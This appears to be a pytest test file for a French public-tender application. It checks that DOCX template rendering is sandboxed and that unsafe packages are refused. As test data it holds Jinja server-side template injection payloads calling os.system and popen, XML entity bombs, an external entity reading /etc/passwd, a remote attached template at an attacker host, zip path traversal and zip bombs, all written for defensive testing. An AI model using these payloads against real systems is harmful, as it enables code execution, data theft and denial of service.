"""DOCX templates: rendered in the sandbox, read back as a reader would, refused when unsafe."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docxtpl import DocxTemplate

from tenders.documents import (
    RenderError,
    SectionText,
    TemplateRefused,
    check_template,
    render_docx,
    to_subdoc,
)


def docx_bytes(*paragraphs: str, members_table: bool = False) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if members_table:
        table = document.add_table(rows=4, cols=2)
        table.cell(0, 0).text, table.cell(0, 1).text = "Membre", "SIRET"
        table.cell(1, 0).text = "{%tr for m in members %}"
        table.cell(2, 0).text, table.cell(2, 1).text = "{{ m.name }}", "{{ m.siret }}"
        table.cell(3, 0).text = "{%tr endfor %}"
    output = BytesIO()
    document.save(output)
    return output.getvalue()


def rezip(
    data: bytes, replace: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()
) -> bytes:
    replace = dict(replace or {})
    output = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(data)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, replace.pop(info.filename, source.read(info)))
        for name, content in replace.items():
            target.writestr(name, content)
    return output.getvalue()


def read_back(data: bytes) -> list[str]:
    return [paragraph.text for paragraph in Document(BytesIO(data)).paragraphs]


# Rendering


def test_render_fills_paragraphs_and_table_rows() -> None:
    template = docx_bytes("Groupement : {{ name }}", members_table=True)
    members = [
        {"name": "Régie de quartier Nord", "siret": "12345678900011"},
        {"name": "Atelier Sève", "siret": "98765432100022"},
    ]

    rendered = render_docx(template, {"name": "Cordée des Pentes", "members": members})

    document = Document(BytesIO(rendered))
    assert document.paragraphs[0].text == "Groupement : Cordée des Pentes"
    rows = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    assert rows == [
        ["Membre", "SIRET"],
        ["Régie de quartier Nord", "12345678900011"],
        ["Atelier Sève", "98765432100022"],
    ]


def test_render_applies_french_filters() -> None:
    from decimal import Decimal

    template = docx_bytes("Montant : {{ amount|amount_fr }}")

    rendered = render_docx(template, {"amount": Decimal("12500")})

    assert read_back(rendered)[0].replace("\u202f", " ").replace("\xa0", " ") == (
        "Montant : 12 500,00 €"
    )


def test_missing_variable_renders_blank_and_is_reported() -> None:
    missing: set[str] = set()

    rendered = render_docx(docx_bytes("SIRET : {{ siret }}."), {}, missing=missing)

    assert read_back(rendered)[0] == "SIRET : ."
    assert missing == {"siret"}


@pytest.mark.parametrize(
    "text",
    [
        "Tarifs < 5 000 € & remise > 10 % ]]> <w:t>injecté</w:t> \"guillemets\" 'apostrophe'",
        "Insertion sociale 🤝🌱 — Économie sociale et solidaire",
        "{{ 7 * 7 }} {% if true %}reste du texte{% endif %}",
    ],
)
def test_user_text_appears_literally(text: str) -> None:
    rendered = render_docx(docx_bytes("{{ body }}"), {"body": text})

    assert read_back(rendered)[0] == text


def test_control_characters_are_dropped_not_fatal() -> None:
    rendered = render_docx(docx_bytes("{{ body }}"), {"body": "avant\x00\x01\x0b\x1f\ufffeaprès"})

    assert read_back(rendered)[0] == "avantaprès"


def test_very_long_text_is_kept_whole() -> None:
    text = "Mémoire technique. " * 5_300

    rendered = render_docx(docx_bytes("{{ body }}"), {"body": text[:100_000]})

    assert read_back(rendered)[0] == text[:100_000]


SSTI_PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum.__globals__['os'].popen('touch MARKER').read() }}",
    "{{ members.__class__.__init__.__globals__['os'].environ }}",
]


@pytest.mark.parametrize("payload", SSTI_PAYLOADS)
def test_template_injection_is_refused_and_runs_nothing(
    payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CORDEE_SECRET", "ne-doit-pas-fuiter")
    template = docx_bytes(payload)

    with pytest.raises(TemplateRefused) as refused:
        check_template(template, {"members"})
    assert refused.value.status_code == 422

    with pytest.raises((TemplateRefused, RenderError)) as at_render:
        render_docx(template, {"members": []})
    assert "interdit" in at_render.value.message or "modèle" in at_render.value.message
    assert not (tmp_path / "MARKER").exists()
    assert os.listdir(tmp_path) == []


def test_render_refuses_private_attribute_access_in_the_sandbox() -> None:
    with pytest.raises(TemplateRefused, match="éléments internes interdits"):
        render_docx(docx_bytes("{{ name.__class__ }}"), {"name": "x"})


def test_safe_filter_cannot_inject_xml() -> None:
    with pytest.raises(RenderError):
        render_docx(docx_bytes("{{ body|safe }}"), {"body": "</w:t></w:r></w:p>"})


# The same input, the same bytes


def test_the_same_template_and_context_give_the_same_bytes_kept_or_not() -> None:
    from tenders.documents.render import Finish, forget_templates

    template = docx_bytes("{{ name }}", "{{p body }}", members_table=True)
    context = {
        "name": "Cordée des Pentes",
        "body": SectionText("# Démarche\n- un point **fort**\n\nEt la suite."),
        "members": [{"name": "Atelier Sève", "siret": "123"}, {"name": "Régie", "siret": "456"}],
    }
    finish = Finish(core=None, date_time=(2027, 3, 12, 12, 0, 0), compresslevel=1)

    forget_templates()
    cold = render_docx(template, context, finish=finish)
    warm = render_docx(template, context, finish=finish)
    forget_templates()
    cold_again = render_docx(template, context)
    warm_again = render_docx(template, context)

    assert cold == warm
    assert cold_again == warm_again
    assert read_back(cold) == read_back(cold_again)
    assert read_back(cold)[:3] == ["Cordée des Pentes", "Démarche", "un point fort"]
    assert {info.date_time for info in zipfile.ZipFile(BytesIO(cold)).infolist()} == {
        (2027, 3, 12, 12, 0, 0)
    }


def test_kept_section_paragraphs_follow_the_styles_of_each_template() -> None:
    body = {"body": SectionText("# Titre\n- point")}
    plain = docx_bytes("{{p body }}")
    document = Document(BytesIO(plain))
    styles = document.styles.element
    for style in list(styles):
        name = style.find("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}name")
        if name is not None and name.get(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val"
        ) in ("heading 1", "List Bullet"):
            styles.remove(style)
    output = BytesIO()
    document.save(output)
    bare = output.getvalue()

    styled = Document(BytesIO(render_docx(plain, body))).paragraphs
    unstyled = Document(BytesIO(render_docx(bare, body))).paragraphs

    assert [(p.style.name if p.style else None, p.text) for p in styled] == [
        ("Heading 1", "Titre"),
        ("List Bullet", "point"),
    ]
    assert [p.text for p in unstyled] == ["Titre", "• point"]


def test_a_section_offers_a_template_nothing_to_call(tmp_path: Path) -> None:
    target = tmp_path / "copie.docx"
    template = docx_bytes(f"{{{{ body.document.save('{target}') }}}}", "{{p body }}")

    with pytest.raises(RenderError):
        render_docx(template, {"body": SectionText("Notre démarche")})

    assert not target.exists()


# Section markup


def test_section_text_becomes_headings_bullets_and_emphasis() -> None:
    body = SectionText(
        "# Notre démarche\n"
        "Nous accompagnons *chaque* salarié en **parcours** d'insertion.\n"
        "\n"
        "## Moyens\n"
        "- Encadrants techniques\n"
        "- Chargée d'accompagnement <socioprofessionnel> & formation\n"
    )
    template = docx_bytes("Titre", "{{p body }}", "Fin")

    rendered = render_docx(template, {"body": body})

    paragraphs = Document(BytesIO(rendered)).paragraphs
    described = [(p.style.name if p.style else None, p.text) for p in paragraphs]
    assert described == [
        ("Normal", "Titre"),
        ("Heading 1", "Notre démarche"),
        ("Normal", "Nous accompagnons chaque salarié en parcours d'insertion."),
        ("Heading 2", "Moyens"),
        ("List Bullet", "Encadrants techniques"),
        ("List Bullet", "Chargée d'accompagnement <socioprofessionnel> & formation"),
        ("Normal", "Fin"),
    ]
    runs = {run.text: run for run in paragraphs[2].runs}
    assert runs["chaque"].italic is True
    assert runs["parcours"].bold is True
    assert not runs["Nous accompagnons "].bold


def test_section_text_falls_back_without_heading_and_list_styles() -> None:
    template = DocxTemplate(BytesIO(docx_bytes("x")))
    styles = template.get_docx().styles.element
    for style in list(styles):
        name = style.find("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}name")
        if name is not None and name.get(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val"
        ) in ("heading 1", "List Bullet"):
            styles.remove(style)

    subdoc = to_subdoc(template, "# Titre\n- point")

    heading, bullet = subdoc.document.paragraphs
    assert heading.text == "Titre" and all(run.bold for run in heading.runs)
    assert bullet.text == "• point"


# Template checks


def test_check_reports_used_and_unknown_variables() -> None:
    template = docx_bytes("{{ name }} {{ tender.title }} {{ montant_totl }}", members_table=True)

    report = check_template(template, {"name", "tender", "members"})

    assert report.used == {"name", "tender", "members", "montant_totl"}
    assert report.unknown == {"montant_totl"}
    assert report.refusal() == (
        "Le modèle utilise 1 variable inconnue de Cordée : « montant_totl ». "
        "Corrigez l'orthographe ou retirez-les du modèle."
    )
    assert check_template(docx_bytes("{{ name }}"), {"name"}).refusal() is None


def test_check_refuses_jinja_syntax_errors_with_the_paragraph() -> None:
    template = docx_bytes("Premier", "Bonjour {{ name }", "Dernier")

    with pytest.raises(TemplateRefused) as refused:
        check_template(template, {"name"})

    assert "balise mal formée dans le corps du document, au paragraphe 2" in refused.value.message
    assert "« Bonjour {{ name }" in refused.value.message


CONTENT_TYPES = "[Content_Types].xml"


def _content_types(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return archive.read(CONTENT_TYPES).decode()


def _docm() -> bytes:
    data = docx_bytes("x")
    types = _content_types(data).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezip(data, {CONTENT_TYPES: types.encode()})


REL = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="{type}" Target="{target}" TargetMode="External"/>'
    "</Relationships>"
)
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XML_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    "<lolz>&lol3;</lolz>"
)


def _with_zeros(size: int) -> bytes:
    output = BytesIO(docx_bytes("x"))
    with (
        zipfile.ZipFile(output, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/padding.bin", "w", force_zip64=True) as stream,
    ):
        chunk = b"\0" * (1024 * 1024)
        for _ in range(size // len(chunk)):
            stream.write(chunk)
    return output.getvalue()


def _adding(parts: dict[str, bytes]) -> Callable[[], bytes]:
    """A builder of a sound document with ``parts`` added (or replaced)."""
    return lambda: rezip(docx_bytes("x"), parts)


REFUSALS = {
    "not a docx": (lambda: b"%PDF-1.7 ...", "n'est pas un document Word (DOCX)"),
    "empty": (lambda: b"", "n'est pas un document Word (DOCX)"),
    "zip without word part": (
        lambda: rezip(docx_bytes("x"), drop=("word/document.xml",)),
        "n'est pas un document Word (DOCX)",
    ),
    "damaged zip": (lambda: docx_bytes("x")[:2000], "endommagé"),
    "docm content type": (_docm, "contient des macros"),
    "vbaProject.bin": (
        _adding({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "contient des macros",
    ),
    "attached template": (
        _adding(
            {
                "word/_rels/settings.xml.rels": REL.format(
                    type=OFFICE_REL + "attachedTemplate",
                    target="http://attaquant.example/modele.dotm",
                ).encode()
            }
        ),
        "lié à un modèle externe",
    ),
    "external image": (
        _adding(
            {
                "word/_rels/extra.xml.rels": REL.format(
                    type=OFFICE_REL + "image", target="file:///etc/passwd"
                ).encode()
            }
        ),
        "charge un contenu externe (« file:///etc/passwd »)",
    ),
    "ole object": (_adding({"word/embeddings/oleObject1.bin": b"ole"}), "objets incorporés"),
    "parent path": (_adding({"../evil.xml": b"<a/>"}), "chemin interdit (« ../evil.xml »)"),
    "absolute path": (_adding({"/etc/evil.xml": b"<a/>"}), "chemin interdit"),
    "backslash": (_adding({"word\\evil.xml": b"<a/>"}), "chemin interdit"),
    "too many entries": (
        _adding({f"word/media/{i}.txt": b"" for i in range(500)}),
        "trop d'éléments",
    ),
    "xml bomb": (
        _adding({"word/document.xml": XML_BOMB.encode()}),
        "déclarations XML (DTD ou entités) interdites",
    ),
    "external entity in the styles": (
        _adding(
            {
                "word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM '
                b'"file:///etc/passwd">]><s>&x;</s>'
            }
        ),
        "déclarations XML (DTD ou entités) interdites",
    ),
    "xml bomb in UTF-16": (
        _adding(
            {
                "word/document.xml": XML_BOMB.replace('"1.0"', '"1.0" encoding="UTF-16"').encode(
                    "utf-16"
                )
            }
        ),
        "déclarations XML (DTD ou entités) interdites",
    ),
    "compression ratio bomb": (lambda: _with_zeros(4 * 1024 * 1024), "anormalement volumineux"),
    "uncompressed size bomb": (lambda: _with_zeros(60 * 1024 * 1024), "anormalement volumineux"),
    "too big": (
        lambda: docx_bytes("x") + os.urandom(10 * 1024 * 1024),
        "dépasse la taille maximale de 10 Mo",
    ),
}


@pytest.mark.parametrize("case", REFUSALS, ids=list(REFUSALS))
def test_check_refuses_unsafe_packages(case: str) -> None:
    build, reason = REFUSALS[case]

    with pytest.raises(TemplateRefused) as refused:
        check_template(build(), set())

    assert reason in refused.value.message
    assert refused.value.status_code == 422


def test_check_accepts_web_links() -> None:
    document = Document()
    paragraph = document.add_paragraph("Profil acheteur : ")
    paragraph.part.relate_to("https://marches.example.fr", OFFICE_REL + "hyperlink", True)
    output = BytesIO()
    document.save(output)

    assert check_template(output.getvalue(), set()).unknown == set()


def test_render_refuses_unsafe_packages_too() -> None:
    with pytest.raises(TemplateRefused, match="contient des macros"):
        render_docx(_docm(), {})
